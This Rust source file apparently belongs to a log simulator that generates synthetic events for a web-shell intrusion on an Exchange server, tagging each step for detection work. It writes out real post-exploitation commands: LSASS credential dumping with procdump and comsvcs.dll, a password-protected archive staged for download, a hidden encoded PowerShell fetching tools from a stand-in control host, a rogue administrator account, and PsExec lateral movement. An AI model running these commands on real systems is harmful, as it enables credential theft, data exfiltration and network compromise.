//! What the intruder does once in: commands, credentials, an archive, a way back.

use vigie_event::Timestamp;

use super::Script;
use super::exploit::CHAIN_PAGE;
use crate::disk;
use crate::http::{BackEnd, Request};
use crate::machine::{Channel, EXCHANGE_DIR, Log, Machine, Protocol};
use crate::plan::SimulateError;
use crate::windows::Process;

/// Where the intruder works from.
pub(crate) const OPERATOR: &str = "198.51.100.7";
const CONTROL: &str = "198.51.100.23";
pub(super) const CMD: &str = r"C:\Windows\System32\cmd.exe";
const BROWSER: &str = "antSword/v2.1";

impl Machine {
    /// A request to a page in the log-on page's folder.
    pub(super) fn page_used(
        &mut self,
        t: Timestamp,
        method: &str,
        page: &str,
        client: &str,
        bytes: u64,
    ) -> Result<(), SimulateError> {
        let stem = format!("/owa/auth/{page}");
        let mut request = Request::new(Protocol::Owa, method, &stem);
        request.agent = BROWSER;
        request.client = client;
        request.back_end_status = None;
        request.request_bytes = self.rng.between(300, 1_200);
        request.response_bytes = bytes;
        request.millis = self.rng.between(40, 400);
        if bytes > 1_000_000 {
            request.back_end_status = Some(200);
            request.back_end = Some(BackEnd {
                stem: &stem,
                query: "",
                user: "",
            });
        }
        self.request(t, &request)
    }

    /// A command the worker process of the log-on pages runs, in the shape web shell clients give it.
    pub(super) fn shell_command(&mut self, t: Timestamp, command: &str) -> Result<Process, SimulateError> {
        let worker = self.worker("MSExchangeOWAAppPool");
        let line = format!(
            r#""cmd" /c cd /d "{EXCHANGE_DIR}\FrontEnd\HttpProxy\owa\auth"&{command}&echo [S]&cd&echo [E]"#
        );
        self.start(t, &worker, CMD, &line)
    }
}

/// A command, the process it starts, and the step it is.
fn command(
    script: &mut Script,
    at: (i64, i64, i64),
    day: i64,
    stage: &'static str,
    image: &'static str,
    line: &'static str,
    what: &'static str,
) {
    script.at(day, at, move |m, t| {
        m.page_used(t, "POST", CHAIN_PAGE, OPERATOR, 900)?;
        m.step("web_shell_use", t, Log::Iis, CHAIN_PAGE, "the page is used");
        let shell = m.shell_command(t, line)?;
        m.step(
            "execution",
            t,
            Log::Event(Channel::Sysmon),
            "echo [S]",
            "the web server runs a command interpreter",
        );
        m.start(t, &shell, image, line)?;
        m.step(stage, t, Log::Event(Channel::Sysmon), image, what);
        m.step(
            stage,
            t,
            Log::Event(Channel::Security),
            image,
            "the same process in the security log",
        );
        Ok(())
    });
}

/// The session of the full chain.
pub(super) fn session(script: &mut Script, day: i64) {
    script.at(day, (3, 6, 27), |m, t| {
        m.page_used(t, "GET", CHAIN_PAGE, OPERATOR, 1_200)?;
        m.step(
            "web_shell_use",
            t,
            Log::Iis,
            CHAIN_PAGE,
            "the page is opened for the first time",
        );
        m.step(
            "web_shell_use",
            t,
            Log::Proxy(Protocol::Owa),
            CHAIN_PAGE,
            "the same request in the proxy's log",
        );
        let file = disk::compiled_page(m, "owa", &format!("/owa/auth/{CHAIN_PAGE}"), t)?;
        m.file_step(
            "web_shell_use",
            t,
            file,
            CHAIN_PAGE,
            "ASP.NET compiled the page: it was opened",
        );
        Ok(())
    });
    command(
        script,
        (3, 7, 10),
        day,
        "discovery",
        r"C:\Windows\System32\whoami.exe",
        "whoami",
        "the intruder asks who it is",
    );
    command(
        script,
        (3, 8, 41),
        day,
        "discovery",
        r"C:\Windows\System32\net.exe",
        r#"net group "domain admins" /domain"#,
        "the intruder asks who administers the domain",
    );
    script.at(day, (3, 12, 5), control);
    command(
        script,
        (3, 15, 30),
        day,
        "credential_access",
        r"C:\Windows\Temp\procdump64.exe",
        r"C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
        "the memory that holds passwords is dumped with procdump",
    );
    script.at(day, (3, 15, 31), dump_written);
    command(
        script,
        (3, 17, 2),
        day,
        "credential_access",
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll MiniDump 648 C:\Windows\Temp\lsass2.dmp full",
        "and once more with comsvcs.dll",
    );
    command(
        script,
        (3, 25, 0),
        day,
        "collection",
        r"C:\Program Files\7-Zip\7z.exe",
        r#""C:\Program Files\7-Zip\7z.exe" a -pREMOVED C:\inetpub\wwwroot\aspnet_client\it.7z C:\Windows\Temp\lsass.dmp C:\Windows\Temp\mail.pst"#,
        "the dump and a mailbox are packed with a password",
    );
    script.at(day, (3, 25, 9), archive_written);
    script.at(day, (3, 31, 40), archive_fetched);
    script.at(day, (3, 40, 16), |m, t| {
        m.new_administrator(t, "support_388945b0")?;
        m.step(
            "persistence",
            t,
            Log::Event(Channel::Security),
            "S-1-5-32-544",
            "a local account is made an administrator by the server itself",
        );
        Ok(())
    });
    command(
        script,
        (3, 50, 3),
        day,
        "defense_evasion",
        r"C:\Windows\System32\attrib.exe",
        r"attrib +h +s +r OutlookZH.aspx",
        "the page is hidden",
    );
    command(
        script,
        (4, 9, 50),
        day,
        "lateral_movement",
        r"C:\Windows\Temp\PsExec64.exe",
        r"C:\Windows\Temp\PsExec64.exe -accepteula \\DC01 -s cmd.exe",
        "the intruder goes on to the domain controller",
    );
}

fn control(m: &mut Machine, t: Timestamp) -> Result<(), SimulateError> {
    let shell = m.shell_command(t, "powershell -nop -w hidden -enc REMOVED")?;
    let image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let process = m.start(t, &shell, image, "powershell -nop -w hidden -enc REMOVED")?;
    m.step(
        "execution",
        t,
        Log::Event(Channel::Sysmon),
        "-enc REMOVED",
        "a hidden PowerShell is started",
    );
    let text = format!(
        "Invoke-WebRequest -Uri http://{CONTROL}/p.zip -OutFile C:\\Windows\\Temp\\p.zip # simulated"
    );
    m.script_block(t, &text, "")?;
    m.step(
        "command_and_control",
        t,
        Log::Event(Channel::PowerShell),
        CONTROL,
        "tools are fetched from the intruder's server",
    );
    m.connected(t, &process, CONTROL, 80)?;
    m.step(
        "command_and_control",
        t,
        Log::Event(Channel::Sysmon),
        CONTROL,
        "the connection to the intruder's server",
    );
    Ok(())
}

fn dump_written(m: &mut Machine, t: Timestamp) -> Result<(), SimulateError> {
    let image = r"C:\Windows\Temp\procdump64.exe";
    let process = m.running(image, image);
    m.lsass_accessed(t, &process, 0x001f_ffff)?;
    m.step(
        "credential_access",
        t,
        Log::Event(Channel::Sysmon),
        "lsass.exe",
        "the dumping process reads the memory",
    );
    m.file_created(t, &process, r"C:\Windows\Temp\lsass.dmp")?;
    m.step(
        "credential_access",
        t,
        Log::Event(Channel::Sysmon),
        "lsass.dmp",
        "the dump is written",
    );
    Ok(())
}

fn archive_written(m: &mut Machine, t: Timestamp) -> Result<(), SimulateError> {
    let image = r"C:\Program Files\7-Zip\7z.exe";
    let process = m.running(image, image);
    m.file_created(t, &process, r"C:\inetpub\wwwroot\aspnet_client\it.7z")?;
    m.step(
        "collection",
        t,
        Log::Event(Channel::Sysmon),
        "it.7z",
        "the archive is put where the web server hands it out",
    );
    Ok(())
}

fn archive_fetched(m: &mut Machine, t: Timestamp) -> Result<(), SimulateError> {
    let plain = crate::http::Plain {
        method: "GET",
        stem: "/aspnet_client/it.7z",
        query: "",
        user: "",
        agent: BROWSER,
        client: OPERATOR,
        status: 200,
        millis: 48_210,
    };
    m.plain_request(t, &plain)?;
    m.step(
        "exfiltration",
        t,
        Log::Iis,
        "/aspnet_client/it.7z",
        "the archive is downloaded",
    );
    Ok(())
}
